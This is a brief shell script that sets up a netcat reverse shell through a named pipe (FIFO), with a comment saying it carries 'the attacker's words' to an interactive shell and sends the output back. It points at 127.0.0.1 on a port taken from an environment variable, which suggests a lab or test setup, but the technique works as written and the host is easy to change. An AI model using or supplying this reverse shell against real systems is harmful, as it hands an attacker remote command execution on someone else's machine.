#!/bin/sh
# netcat without -e: a FIFO brings the attacker's words to the shell, a pipe takes the answers back.
mkfifo f
cat f | sh -i 2>&1 | nc 127.0.0.1 "$NJ_PORT" > f
